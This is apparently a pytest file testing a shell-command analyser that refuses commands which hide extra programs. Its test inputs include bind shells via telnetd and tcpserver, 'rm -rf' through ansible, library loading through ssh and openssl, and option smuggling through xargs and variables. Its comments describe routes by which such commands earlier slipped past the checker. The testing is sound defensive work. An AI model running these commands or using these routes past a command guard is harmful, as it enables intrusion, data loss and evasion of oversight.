        "git send-email --to-cmd='rm x' p.patch",
        "git send-email --smtp-server=/tmp/x p.patch",
        "git send-email --smtp-server /tmp/x p.patch",
    ],
)
def test_git_settings_and_subcommands_that_run_a_command_are_refused(command: str) -> None:
    # The key was looked for as the first operand only, and these subcommands' options were not known.
    refused(command, "run|only known at run time")


def test_the_value_of_git_attr_source_is_not_taken_for_the_subcommand() -> None:
    # git --attr-source TREE takes the next word: in `git --attr-source log mergetool` the subcommand is mergetool,
    # which runs a merge tool, but log was checked.
    refused("git --attr-source log mergetool", "'git mergetool' runs commands")
    refused("echo mergetool | xargs git --attr-source log --", "xargs would append")
    assert names("git --attr-source HEAD log") == names("git --attr-source=HEAD log") == ["git"]


def test_git_settings_that_run_nothing_are_left_to_the_rules() -> None:
    for command in ["git config --get core.pager", "git config --unset core.pager", "git config user.name 'A B'",
                    "git send-email --smtp-server=smtp.example.com p.patch", "git daemon --export-all"]:  # fmt: skip
        assert names(command) == ["git"]


@pytest.mark.parametrize(
    "command",
    ["git commit", "git commit -a", "git commit -m x -e", "git commit -c HEAD", "git commit $opts -m x",
     "git tag -a v1", "git notes add", "git merge -e main", "kubectl edit deploy web",
     "kubectl create deploy web --image=nginx --edit", "systemctl edit nginx", "systemctl --user edit x",
     "machinectl edit web", "sudo systemctl edit nginx"],
)  # fmt: skip
def test_a_program_starting_an_editor_on_the_sessions_input_is_refused(command: str) -> None:
    # The editor git, kubectl or systemctl starts read `:!CMD` from the session's input: reported as git alone.
    refused(command, "it starts an editor")


@pytest.mark.parametrize(
    "command",
    ["git add -e", "git add --edit f", "git add -p", "git add -vp f", "git add --interactive", "git add --pat",
     "git checkout -p", "git reset -p HEAD f", "git restore --patch f", "git stash -p", "git stash push -p",
     "git commit -m x -p", "git commit --interactive", "git config -e", "git config --global --edit",
     "git config edit", "git branch --edit-description", "git am -i p.patch", "x=-e; git add $x",
     'x=-p; git checkout -t "$x"'],
)  # fmt: skip
def test_git_options_that_start_an_editor_or_a_prompt_for_one_are_refused(command: str) -> None:
    # git add -e and git config -e start the editor on the session's input; the prompt of -p and -i reads its
    # answers there, and `e` starts the editor: its :!CMD ran unseen, reported as git alone.
    refused(command, "it starts an editor|could inject an option")


def test_git_options_that_start_no_editor_are_left_to_the_rules() -> None:
    for command in ["git add -A", "git add -u .", 'git add "$f"', "git add -- -e", "git add -p < /dev/null",
                    "git checkout -b fix", "git checkout -- f", 'git checkout "$BRANCH"', "git stash show -p",
                    "git stash pop", "git reset --hard HEAD", "git restore --staged f", "git commit -am x",
                    "git config --global user.email a@b", "git branch -a", "git am p.patch", "git log -p",
                    'msg="fix: x"; git commit -m "$msg"', 'for f in *.log; do git add -- "$f"; done',
                    'b=fix; git checkout -b "$b"']:  # fmt: skip
        assert names(command)[-1] == "git"


def test_a_program_that_starts_no_editor_or_one_on_an_empty_input_is_left_to_the_rules() -> None:
    for command in ["git commit -m x", "git commit -am x", 'git commit -m "$msg"', "git commit --amend --no-edit",
                    "git commit -F msg.txt", "git commit --fixup HEAD", "git commit < /dev/null", "git tag v1",
                    "git tag -a v1 -m x", "git notes add -m x", "git merge main", "git revert HEAD",
                    "kubectl get pods", "systemctl edit x < /dev/null", "systemctl status nginx"]:  # fmt: skip
        assert names(command) == [command.split()[0]]


@pytest.mark.parametrize(
    "command",
    ["ansible all -a 'rm -rf /srv'", "ansible web -m shell -a 'rm x'", "ansible all -mraw", "ansible all -m copy",
     "ansible all -m ping -e ansible_python_interpreter=/tmp/x", "ansible-console all", "ansible-playbook /dev/stdin",
     "ansible-playbook -i hosts -", "ansible $hosts -m ping", "echo -a rm | xargs ansible all"],
)  # fmt: skip
def test_ansible_running_commands_on_its_hosts_is_refused(command: str) -> None:
    # ansible ran the command of -a (its default module is `command`) on every host, reported as ansible alone.
    refused(command)


def test_ansible_reading_its_hosts_is_left_to_the_rules() -> None:
    for command in ["ansible all -m ping", "ansible web -i hosts -m setup -vvv", "ansible all --list-hosts",
                    "ansible-playbook -i hosts site.yml"]:  # fmt: skip
        assert names(command) == [command.split()[0]]


@pytest.mark.parametrize(
    "command",
    ["ssh -I /tmp/x.so host ls", "ssh -o PKCS11Provider=/tmp/x.so host ls", "ssh -oSecurityKeyProvider=/tmp/x.so host ls",
     "scp -o PKCS11Provider=/tmp/x.so a h:b", "ssh host -I /tmp/x.so ls", "ssh -F /dev/stdin host ls",
     "scp -F /dev/stdin a h:b", 'ssh -F "$f" host ls'],
)  # fmt: skip
def test_ssh_loading_a_library_or_reading_its_configuration_from_the_session_is_refused(command: str) -> None:
    # A PKCS#11 or security key provider is a library whose code ssh runs; a configuration read from the session
    # names commands (ProxyCommand). Both were left to the rules as ssh.
    refused(command, "library|session's input")


def test_ssh_with_its_own_keys_and_configuration_is_left_to_the_rules() -> None:
    for command in ["ssh -i key host ls", "ssh -F ~/.ssh/alt host ls", "ssh -o SecurityKeyProvider=internal host ls"]:
        assert names(command) == ["ssh", "ls"]


@pytest.mark.parametrize(
    "command",
    ["openssl req -engine /tmp/x.so -new", "openssl engine dynamic -pre SO_PATH:/tmp/x.so -pre LOAD",
     "openssl req -keygen_engine /tmp/x.so -new", "openssl x509 -provider-path /tmp -provider x -in c",
     'openssl x509 -in c -engine "$e"', 'openssl x509 "$o" /tmp/x.so', "echo -engine /tmp/x.so | xargs openssl req"],
)  # fmt: skip
def test_openssl_loading_a_library_is_refused(command: str) -> None:
    # An engine given by its path, SO_PATH and a provider directory load a library whose code openssl runs.
    refused(command, "library|xargs would append")


def test_openssl_with_files_and_named_engines_is_left_to_the_rules() -> None:
    for command in [
        "openssl req -engine pkcs11 -new",
        'openssl x509 -noout -in "$f"',
        "openssl s_client -connect h:443",
    ]:
        assert names(command) == ["openssl"]


@pytest.mark.parametrize(
    "command",
    ["bundle exec rm x", "poetry run rm x", "pipenv run rm x", "uv run rm x", "npx rm", "uvx rm", "npm exec -- rm x",
     "npm x rm", "pnpm dlx rm", "yarn dlx rm", "conda run -n e rm x", "rbenv exec rm x", "mise exec -- rm x",
     "nix-shell --run 'rm x'", "nix run nixpkgs#hello", "poetry $sub", "echo run rm | xargs poetry"],
)  # fmt: skip
def test_environment_managers_running_a_program_are_refused(command: str) -> None:
    # bundle exec, poetry run, npx... ran the program after them, reported as bundle, poetry or npx alone.
    refused(command, "runs the program|xargs would append")


def test_environment_managers_managing_their_environment_are_left_to_the_rules() -> None:
    for command in ["bundle install", "poetry install", "uv pip install x", "npm run build", "npm install",
                    "yarn install", "conda list", "nix build"]:  # fmt: skip
        assert names(command) == [command.split()[0]]


def test_the_helper_programs_of_sort_diff3_and_sdiff_are_reported() -> None:
    # sort --compress-program=PROG and diff3/sdiff --diff-program=PROG run PROG: reported as sort or diff3 alone.
    assert ("rm", "", "sort --compress-program") in calls("sort --compress-program=rm f")
    assert ("rm", "", "sort --compress-program") in calls("sort -S 1 --compress-prog rm f")
    assert ("rm", "", "diff3 --diff-program") in calls("diff3 --diff-program=rm a b c")
    assert ("rm", "", "sdiff --diff-program") in calls("sdiff --diff=rm a b")
    refused("sort --comp=sh f", "piped into sh")
    refused('sort "$(printf -- --compress-program=rm)" f', "could be --compress-program")
    refused('o=--compress-program=rm; sort "$o" f', "set by this command line")
    refused("echo --compress-program=rm | xargs sort", "xargs would append")
    for command in ["sort -u f", 'sort "$f"', 'sort -k2 -t, "$HOME/x"', "ls | sort -r", "diff3 a b c"]:
        assert names(command)[-1] in ("sort", "diff3")


@pytest.mark.parametrize(
    ("command", "why"),
    [
        # GNU tar and cpio reach `host:file` by running `rsh host /usr/sbin/rmt` (or the --rsh-command given)
        ("tar -cf backup-host:/x.tar /data", "names another host"),
        ("tar cvf root@h:x /data", "names another host"),
        ("tar -czvfh:x /data", "names another host"),
        ("tar --file=h:x -c /data", "names another host"),
        ("tar -c --file h:x /data", "names another host"),
        ('tar -C /data -cf "backup-$H:x" .', "names another host"),
        ("TAPE=h:x tar -c /data", "TAPE"),
        ("cpio -o -F h:x < list", "names another host"),
        ("cpio -oOh:x < list", "names another host"),
        ("cpio -i -I user@h:x", "names another host"),
        ("cpio -o --rsh-command=/bin/sh -F localhost:x < list", "--rsh-command"),
        ("cpio -o --rsh=./evil -F /tmp/x < list", "--rsh-command"),
        ("cpio -o --bogus < list", "unknown option"),
        ("echo --rsh-command=/bin/sh | xargs cpio -o", "xargs would append"),
        # servers that start a program for whoever connects
        ("busybox telnetd -l /bin/sh -p 2323", "whoever connects"),
        ("telnetd -F", "whoever connects"),
        ("busybox tcpsvd 0 2323 sh", "whoever connects"),
        ("tcpserver 0 2323 sh", "whoever connects"),
        ("inetd /tmp/inetd.conf", "whoever connects"),
        # virsh's own shell reads the session's input; `console` hands it to a guest
        ("virsh", "session's input"),
        ("virsh -q -c qemu:///system", "session's input"),
        ("virsh console guest1", "guest's console"),
        ("virsh 'list; console guest1'", "guest's console"),
        ("virsh -c qemu+ssh://root@h/system list", "starts a program to connect"),
        ('virsh -c "$URI" list', "only known at run time"),
        ("LIBVIRT_DEFAULT_URI=qemu+ext:///system?command=/tmp/x virsh list", "LIBVIRT_DEFAULT_URI"),
    ],
)
def test_archives_on_other_hosts_network_servers_and_virsh_s_shell_are_refused(command: str, why: str) -> None:
    # Each ran a program no rule saw (rsh or the --rsh-command, a shell per connection, virsh commands typed
    # later): only the first program was reported.
    refused(command, why)


@pytest.mark.parametrize(
    "command",
    [
        "tar -czf /tmp/a.tar.gz /data",
        "tar xzf a.tar.gz -C /tmp",
        "tar -cf ./a:b.tar /data",
        "tar --force-local -cf a:b.tar /data",
        "tar -cf x.tar 'a:b'",
        "tar -C /data -cvf /tmp/x.tar .",
        "cpio -idmv < a.cpio",
        "cpio -o -O /tmp/a.cpio < list",
        "cpio -o --force-local -F a:b < list",
        "virsh list --all",
        "virsh -c qemu:///system dominfo guest1",
        "virsh --help",
    ],
)
def test_local_archives_and_virsh_commands_are_left_to_the_rules(command: str) -> None:
    assert [inv.name for inv in analyse(command).invocations] == [command.split()[0]]


@pytest.mark.parametrize(
    "command",
    [
        "GIT_AUTHOR_NAME=agent GIT_AUTHOR_EMAIL=agent@example.com git commit -m 'fix'",
        "GIT_COMMITTER_DATE='2024-01-01T00:00:00' GIT_AUTHOR_DATE=now git commit --amend --no-edit",
        "env GIT_COMMITTER_NAME=agent GIT_COMMITTER_EMAIL=a@example.com git merge main",
    ],
)
def test_git_s_author_and_committer_variables_may_be_set(command: str) -> None:
    # They only name who and when; every GIT_* was refused as "can change which program runs".
    assert analyse(command).invocations[-1].name == "git"


@pytest.mark.parametrize("name", ["GIT_SSH_COMMAND", "GIT_DIR", "GIT_CONFIG_GLOBAL", "GIT_PAGER", "GIT_EXEC_PATH"])
def test_other_git_variables_are_still_refused(name: str) -> None:
    refused(f"{name}=/tmp/x git log", "can change which program runs")


def test_the_login_home_and_pattern_values_are_not_taken_for_options() -> None:
    # "$HOME" is the login user's home, an absolute path like ~ (a command line cannot assign HOME), and an
    # unquoted glob in the value of an option that only takes a pattern expands to that option again: neither
    # can put an option where the analysis did not see one. Both were refused as "only known at run time".
    for command in [
        'tar -czf "$HOME/backup.tgz" dir',
        "tar -czf $HOME/backup.tgz dir",
        'tar -xzf b.tgz -C "${HOME}"',
        "tar -czf ~/b.tgz --exclude=*.tmp dir",
        "tar czf b.tgz --exclude=*.tmp --exclude=.cache* dir",
        'rsync -a --include=*/ --exclude=*.tmp "$HOME/src/" /srv/dst',
    ]:
        assert names(command)[-1] in ("tar", "rsync"), command
    for command, why in [
        ("tar -C $HOME -czf b.tgz dir", "only known at run time"),  # unset, the bare word would vanish
        ('tar -czf "$HOME"-x dir', "only known at run time"),
        ('tar -czf "${HOME:--x}/b" dir', "only known at run time"),
        ('tar -czf "$HOMEDIR/b" dir', "only known at run time"),
        ('source ./env; tar -czf "$HOME/b" dir', "set by this command line"),
        ("HOME=/tmp tar -czf $HOME/b dir", "assigning HOME"),
        ("tar -czf b.tgz --exclude *.tmp dir", "only known at run time"),  # a separate word: none or several
        ("tar -czf b.tgz --exclude={a,b} dir", "only known at run time"),
        ("tar -czf b.tgz --excl*=x dir", "only known at run time"),
        ("tar -cf b.tar --to-command=*.sh dir", "only known at run time"),
        ("rsync -a --rsh=*.sh a b", "only known at run time"),
        ("rsync -a --exclude=$x a b", "only known at run time"),
    ]:
        refused(command, why)
